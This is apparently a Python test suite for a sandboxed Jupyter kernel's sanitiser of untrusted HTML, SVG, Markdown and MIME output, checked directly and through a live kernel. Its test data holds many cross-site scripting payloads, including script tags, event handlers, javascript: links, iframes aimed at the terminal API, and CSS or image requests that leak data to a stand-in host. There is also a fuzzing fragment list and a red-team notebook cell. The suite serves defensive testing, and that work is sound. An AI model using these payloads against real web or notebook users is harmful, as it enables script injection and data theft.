"""Rich output from the sandbox is untrusted (issue 19, point 1).

The first half checks the sanitiser (sandbox_kernel.untrusted) on each attack vector and on
the ordinary output that must survive; the second half sends the same output from a cell
through the real kernel with jupyter_client and checks what reaches IOPub.
"""

from __future__ import annotations

import io
import json
import xml.dom.minidom
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox_kernel.notices import NOTICE_MIME
from sandbox_kernel.untrusted import clean_css, sanitize_html, sanitize_svg, screen_bundle

# -- the sanitiser ------------------------------------------------------------------------

HTML_VECTORS = {
    "script": ('<b>just a chart</b><script>window.__pwned = 1</script>', "<script>"),
    "onerror": ('<img src="x" onerror="window.__pwned = 2">', "onerror="),
    "javascript link": ('<a href="javascript:window.__pwned = 3">click</a>', "javascript: URL"),
    "javascript link, entity and tab": ('<a href="jav&#x61;scr\tipt:alert(1)">click</a>', "javascript: URL"),
    "svg onload": ('<svg onload="window.__pwned = 4"><circle r="4"/></svg>', "onload="),
    "iframe": ('<iframe src="/api/terminals"></iframe>', "<iframe>"),
    "object": ('<object data="/files/x.html"></object>', "<object>"),
    "embed": ('<embed src="/files/x.swf">', "<embed>"),
    "form": ('<form action="/api/terminals" method="post"><button>go</button></form>', "<form>"),
    "base": ('<base href="http://198.51.100.7/">', "<base>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=http://198.51.100.7/">', "<meta>"),
    "stylesheet link": ('<link rel="stylesheet" href="http://198.51.100.7/x.css">', "<link>"),
    "style url()": ('<p style="color: red; background-image: url(http://198.51.100.7/leak)">x</p>',
                    "CSS that loads from the network"),
    "style @import": ('<style>@import "http://198.51.100.7/x.css";</style>', "CSS that loads from the network"),
    "image loaded from a URL": ('<img src="http://198.51.100.7/leak?secret=1">', "image loaded from a URL"),
}


@pytest.mark.parametrize("name", list(HTML_VECTORS))
def test_html_vector_is_removed_and_named_in_the_note(name):
    source, named = HTML_VECTORS[name]
    screened = screen_bundle({"text/html": source, "text/plain": "x"})
    out = screened.data["text/html"].lower()
    for bad in ("<script", "onerror", "onload", "javascript:", "<iframe", "<object", "<embed", "<form",
                "<base", "<meta", "<link", "url(", "@import", "198.51.100.7", "/api/terminals"):
        assert bad not in out, (name, out)
    note = screened.note()
    assert note is not None and named in note, note
    assert note.count("\n") == 1 and note.endswith("\n")
    assert screened.data["text/plain"] == "x"


def test_css_keeps_formatting_and_drops_what_loads_or_escapes_the_output():
    assert clean_css("color: red; font-weight: bold; text-align: right") == \
        "color: red; font-weight: bold; text-align: right"
    assert clean_css("background-color: rgb(1, 2, 3); border: 1px solid #ccc") == \
        "background-color: rgb(1, 2, 3); border: 1px solid #ccc"
    for bad in ("background: url(http://x/)", "background-image: image-set('x.png' 1x)",
                "color: r\\65 d", "width: expression(alert(1))", "position: fixed", "z-index: 9999",
                "margin-top: -4000px", "color: red /* */", "behavior: url(x.htc)", "content: 'x'"):
        assert clean_css(bad) is None, bad


def test_classes_of_jupyterlab_and_of_the_kernels_notices_are_removed():
    out = sanitize_html('<div class="jp-Dialog lm-Widget sandbox-kernel-notice mine dataframe">x</div>')
    assert out == '<div class="mine dataframe">x</div>'


def test_id_and_name_attributes_are_removed():
    assert sanitize_html('<a id="x" name="y" href="#z">l</a>') == '<a href="#z" rel="noopener noreferrer">l</a>'


def test_ordinary_formatting_survives():
    source = ('<div><b>bold</b> <i>it</i> <code>c</code><pre>p</pre><span style="color: green">s</span>'
              '<ul><li>one</li></ul><a href="https://example.org/doc">doc</a>'
              '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart"></div>')
    screened = screen_bundle({"text/html": source})
    out = screened.data["text/html"]
    for kept in ("<b>bold</b>", "<i>it</i>", "<code>c</code>", "<pre>p</pre>", '<span style="color:green">s</span>',
                 "<li>one</li>", 'href="https://example.org/doc"', 'src="data:image/png;base64,iVBORw0KGgo="'):
        assert kept in out, (kept, out)
    assert screened.note() is None


def test_pandas_table_keeps_its_structure_and_classes_without_a_note():
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [3.5, 19.0]})
    screened = screen_bundle({"text/html": frame._repr_html_(), "text/plain": repr(frame)})
    out = screened.data["text/html"]
    assert '<table border="1" class="dataframe">' in out
    assert "<th>city</th>" in out and "<td>Oslo</td>" in out and "<td>19.0</td>" in out
    assert '<tr style="text-align:right">' in out
    # pandas' <style scoped> goes (a <style> element styles the whole page), silently: not an attack
    assert "<style" not in out
    assert screened.note() is None


def test_matplotlib_svg_stays_a_complete_image():
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("svg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1))
    ax.plot([1, 3, 2])
    ax.set_title("a < b & c")
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    source = buf.getvalue()
    screened = screen_bundle({"image/svg+xml": source})
    out = screened.data["image/svg+xml"]
    root = xml.dom.minidom.parseString(out).documentElement  # JupyterLab draws it as an <img>: XML
    assert root.tagName == "svg" and root.getAttribute("xmlns") == "http://www.w3.org/2000/svg"
    assert out.count("<path") == source.count("<path") and out.count("<use") == source.count("<use")
    assert out.count("clip-path=") == source.count("clip-path=")
    assert out.count("<clipPath") == source.count("<clipPath") >= 1
    assert screened.note() is None


def test_svg_vectors_are_removed():
    source = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
              '<a xlink:href="javascript:alert(3)"><text>t</text></a>'
              '<animate attributeName="href" to="javascript:alert(4)"/>'
              '<foreignObject><iframe src="/api/terminals"></iframe></foreignObject>'
              '<image href="http://198.51.100.7/leak.png"/><rect style="fill: url(http://198.51.100.7/x)"/>'
              '<rect fill="url(#grad)" width="3"/></svg>')
    screened = screen_bundle({"image/svg+xml": source})
    out = screened.data["image/svg+xml"]
    for bad in ("onload", "<script", "alert", "javascript:", "<animate", "foreignobject", "<iframe", "198.51.100.7"):
        assert bad not in out.lower(), (bad, out)
    assert '<rect fill="url(#grad)" width="3"></rect>' in out
    for named in ("onload=", "<script>", "javascript: URL", "<animate>", "<foreignobject>", "image loaded from a URL",
                  "CSS that loads from the network"):
        assert named in screened.note(), named


def test_sanitize_svg_adds_the_namespaces_an_image_needs():
    out = sanitize_svg('<svg><use xlink:href="#a"/></svg>')
    xml.dom.minidom.parseString(out)
    assert 'xmlns="http://www.w3.org/2000/svg"' in out and 'xmlns:xlink="http://www.w3.org/1999/xlink"' in out


@pytest.mark.parametrize("mime", ["application/javascript", "text/javascript", "application/x-foo",
                                  "application/vnd.jupyter.widget-view+json", "application/vnd.vegalite.v5+json",
                                  "application/pdf", "text/x-unknown"])
def test_types_that_can_run_code_or_are_unknown_are_dropped(mime):
    screened = screen_bundle({mime: "window.__pwned = 5", "text/plain": "<fallback>"},
                             {mime: {"x": 1}, "isolated": True})
    assert screened.data == {"text/plain": "<fallback>"}
    assert mime not in screened.metadata and screened.metadata == {"isolated": True}
    assert mime in screened.note()


def test_a_bundle_with_nothing_left_shows_a_placeholder():
    screened = screen_bundle({"application/javascript": "alert(1)"})
    assert list(screened.data) == ["text/plain"]
    assert "application/javascript (runs code in your browser)" in screened.note()


def test_plain_types_pass_unchanged():
    bundle = {"text/plain": "<b>x</b>", "text/latex": r"$\frac{1}{2}$", "application/json": {"a": [1]},
              "image/png": "iVBORw0KGgo=", "image/jpeg": "/9j/", "image/gif": "R0lGOD"}
    screened = screen_bundle(bundle, {"image/png": {"width": 10}})
    assert screened.data == bundle and screened.metadata == {"image/png": {"width": 10}}
    assert screened.note() is None


def test_markdown_is_published_as_sanitised_html():
    source = ("# Title\n\n**bold** and $x_1 * y_2$\n\n<img src=x onerror=alert(1)> "
              "[bad](javascript:alert(2)) [good](https://example.org)\n\n|a|b|\n|-|-|\n|1|2|\n")
    screened = screen_bundle({"text/markdown": source, "text/plain": "md"})
    assert set(screened.data) == {"text/html", "text/plain"}
    out = screened.data["text/html"]
    assert "<h1>Title</h1>" in out and "<strong>bold</strong>" in out and "<td>1</td>" in out
    assert r"\(x_1 * y_2\)" in out  # math left for JupyterLab's MathJax
    assert 'href="https://example.org"' in out
    assert "onerror" not in out and "javascript:" not in out
    assert "onerror= from text/markdown" in screened.note()


def test_long_markdown_is_shown_as_text_not_rendered():
    source = "**x** <script>alert(1)</script>\n" * 20000  # past MARKDOWN_RENDER_LIMIT
    out = screen_bundle({"text/markdown": source}).data["text/html"]
    assert out.startswith("<pre>**x** &lt;script&gt;alert(1)&lt;/script&gt;")
    assert "<script" not in out and "<strong>" not in out


def test_a_part_that_cannot_be_sanitised_is_dropped(monkeypatch):
    import sandbox_kernel.untrusted as untrusted

    def broken(source):
        raise RecursionError("deep")

    monkeypatch.setattr(untrusted, "sanitize_html", broken)
    screened = screen_bundle({"text/html": "<b>x</b>", "text/plain": "x"})
    assert screened.data == {"text/plain": "x"}
    assert "text/html (could not be sanitised)" in screened.note()


def test_markdown_does_not_replace_the_bundles_own_html():
    screened = screen_bundle({"text/markdown": "**md**", "text/html": "<i>html</i>"})
    assert screened.data == {"text/html": "<i>html</i>"}


def test_the_notice_type_is_dropped_even_when_output_is_trusted():
    forged = {NOTICE_MIME: {"host": "evil"}, "text/html": "<script>x</script>", "text/plain": "t"}
    screened = screen_bundle(forged, trusted=True)
    assert NOTICE_MIME not in screened.data
    assert screened.data["text/html"] == "<script>x</script>"  # trusted: passed as it is
    assert NOTICE_MIME in screened.note()


def test_non_text_values_are_dropped():
    screened = screen_bundle({"text/html": ["<b>"], "image/png": {"a": 1}, "text/plain": "p"})
    assert screened.data == {"text/plain": "p"}


def test_bad_input_is_an_empty_bundle():
    assert screen_bundle(None).data == {} and screen_bundle("x", "y").metadata == {}


# fragments an attacker combines; the sanitiser's output must never contain a live one
_FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href='javascript:x'>",
    "<a href=\"jav&#x09;ascript:x\">", "<iframe src=/x>", "<style>", "</style>", "@import 'http://e/';",
    "<p style='background:url(http://e/)'>", "<p style=\"color:red;b\\61ckground:u\\72l(x)\">", "<!--", "-->",
    "<![CDATA[", "]]>", "<math><mi xlink:href='javascript:x'>", "<base href=//e/>", "<form action=/x>", "<b>",
    "</b>", "<table><tr><td>", "</td></tr></table>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea>", "</textarea>", "<template><script>", "<object data=x>", "<embed src=x>", "'", "\"", ">", "<",
    "<details open ontoggle=alert(1)>", "<a href=' javascript:x'>", "<img srcset='http://e/ 1x'>",
    "<div class='jp-Dialog' style='position:fixed'>", "<meta http-equiv=refresh content=0>", "text",
]


class _Live(HTMLParser):
    """What in sanitised HTML would still run or load (checked by a different parser)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.live = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "svg", "math"):
            self.live.append(tag)
        for name, value in attrs:
            value = (value or "").lower().replace("\t", "").replace("\n", "").strip()
            if name.startswith("on") or name in ("srcset", "id", "name", "action", "formaction", "xlink:href"):
                self.live.append(f"{tag} {name}")
            if name in ("href", "src") and (value.startswith(("javascript:", "//", "data:text")) or ":" in value
                                            and not value.startswith(("http:", "https:", "mailto:", "data:image/"))):
                self.live.append(f"{tag} {name}={value}")
            if name == "src" and not value.startswith("data:image/"):
                self.live.append(f"{tag} src={value}")
            if name == "style" and any(bad in value for bad in ("url(", "\\", "@", "position", "expression")):
                self.live.append(f"{tag} style={value}")
            if name == "class" and any(c.startswith("jp-") for c in value.split()):
                self.live.append(f"{tag} class={value}")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), min_size=1, max_size=12))
def test_no_combination_of_fragments_survives(fragments):
    out = sanitize_html("".join(fragments))
    parser = _Live()
    parser.feed(out)
    parser.close()
    assert parser.live == [], (fragments, out)


# -- through the real kernel --------------------------------------------------------------

RED_TEAM = r'''
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<b>just a chart</b><script>window.__pwned = 1</script>"))
display(HTML('<img src="x" onerror="window.__pwned = 2"><a href="javascript:window.__pwned = 3">link</a>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 4"><circle r="4"/></svg>'))
display(Javascript("window.__pwned = 5"))
display({"application/x-foo": "window.__pwned = 6", "text/plain": "foo"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "0" * 32, "version_major": 2,
         "version_minor": 0}, "text/plain": "a widget"}, raw=True)
display({"''' + NOTICE_MIME + r'''": {"host": "evil.example"}, "text/plain": "fake notice"}, raw=True)
display(Markdown("**md** <img src=x onerror=alert(7)>"))
HTML("<i>result</i><script>window.__pwned = 8</script>")
'''


def _bundles(cell) -> list[dict]:
    return [o["content"]["data"] for o in cell.outputs if o["msg_type"] in ("display_data", "execute_result")]


def test_red_team_cell_reaches_iopub_sanitised(kernel):
    cell = kernel.execute(RED_TEAM)
    assert cell.status == "ok", cell.outputs
    bundles = _bundles(cell)
    published = json.dumps(bundles)
    for bad in ("<script", "onerror", "onload", "javascript:", "application/javascript", "application/x-foo",
                "widget-view", NOTICE_MIME, "__pwned"):
        assert bad not in published, (bad, published)
    assert bundles[0]["text/html"] == "<b>just a chart</b>"
    assert bundles[-1]["text/html"] == "<i>result</i>"
    assert cell.of_type("execute_result"), cell.outputs
    # one note per kind of removal, on stderr, before the footer
    notes = [line for line in cell.stream("stderr").splitlines() if "removed from this output" in line]
    said = " ".join(notes)
    for named in ("<script>", "onerror=", "javascript: URL", "onload=", "application/javascript",
                  "application/x-foo", "application/vnd.jupyter.widget-view+json", NOTICE_MIME):
        assert named in said, (named, notes)
    assert len(notes) == len(set(notes))
    kinds = [o["msg_type"] for o in cell.outputs]
    first_note = next(i for i, o in enumerate(cell.outputs)
                      if o["msg_type"] == "stream" and "removed from this output" in o["content"]["text"])
    assert kinds[first_note + 1] == "display_data"  # the note comes with the output it is about
    assert "exit 0" in cell.outputs[-1]["content"]["text"]


def test_ordinary_output_reaches_iopub_intact(kernel):
    pytest.importorskip("pandas")
    cell = kernel.execute(
        "import pandas as pd, matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
        "import matplotlib.pyplot as plt\nfrom IPython.display import HTML, display\n"
        "display(HTML('<b>bold</b> <span style=\"color: green\">green</span>'))\n"
        "plt.plot([1, 3, 2]); plt.show()\n"
        "pd.DataFrame({'city': ['Oslo', 'Lima'], 'temp': [3.5, 19.0]})")
    assert cell.status == "ok", cell.outputs
    bundles = _bundles(cell)
    assert bundles[0]["text/html"] == '<b>bold</b> <span style="color:green">green</span>'
    assert any(b.get("image/png", "").startswith("iVBOR") for b in bundles)
    table = cell.of_type("execute_result")[0]["content"]["data"]["text/html"]
    assert 'class="dataframe"' in table and "<td>Oslo</td>" in table
    assert "removed from this output" not in cell.stream("stderr")


def test_inspection_reply_and_pager_are_sanitised(kernel):
    # the code in the sandbox controls what the agent answers: here, the inspector itself
    kernel.execute(
        "ip = get_ipython()\n"
        "ip.object_inspect_mime = lambda *a, **k: {'text/html': '<b>doc</b><script>window.__pwned = 10</script>',"
        " 'application/javascript': 'window.__pwned = 11', 'text/plain': 'doc'}")
    msg_id = kernel.kc.inspect("zip", 3, detail_level=0)
    reply = kernel.kc.get_shell_msg(timeout=30)
    assert reply["parent_header"]["msg_id"] == msg_id
    content = reply["content"]
    assert content["status"] == "ok" and content["found"] is True
    assert content["data"] == {"text/html": "<b>doc</b>", "text/plain": "doc"}
    # the pager payload (obj?) carries a bundle from the sandbox too
    cell = kernel.execute("from IPython.core.page import page\n"
                          "page({'text/html': '<i>p</i><img src=x onerror=alert(1)>', 'text/plain': 'p'})")
    pages = cell.reply["content"]["payload"]
    assert pages and pages[0]["data"] == {"text/html": "<i>p</i><img>", "text/plain": "p"}, pages


def test_trusting_sandbox_output_is_the_administrators_choice(fresh_kernel):
    kernel = fresh_kernel({"SANDBOX_KERNEL_TRUST_SANDBOX_OUTPUT": "1"})
    cell = kernel.execute(RED_TEAM)
    bundles = _bundles(cell)
    assert bundles[0]["text/html"] == "<b>just a chart</b><script>window.__pwned = 1</script>"
    assert any("application/javascript" in b for b in bundles)
    # never the kernel's own notice type, trusted or not
    assert NOTICE_MIME not in json.dumps(bundles)
    assert NOTICE_MIME in cell.stream("stderr")


def test_the_setting_cannot_be_changed_from_the_notebook(kernel):
    for line in ("%sandbox trust_sandbox_output True", "%sandbox set trust_sandbox_output=1",
                 "%config SandboxKernel.trust_sandbox_output = True"):
        kernel.execute(line)
    cell = kernel.execute("from IPython.display import HTML\nHTML('<script>window.__pwned = 9</script>ok')")
    assert cell.of_type("execute_result")[0]["content"]["data"]["text/html"] == "ok"


def test_update_display_data_is_sanitised(kernel):
    cell = kernel.execute(
        "from IPython.display import HTML, display\n"
        "handle = display(HTML('<b>first</b>'), display_id=True)\n"
        "handle.update(HTML('<b>second</b><img src=x onerror=\"window.__pwned = 12\">'))")
    updates = cell.of_type("update_display_data")
    assert [u["content"]["data"]["text/html"] for u in updates] == ["<b>second</b><img>"]
    assert "onerror=" in cell.stream("stderr")
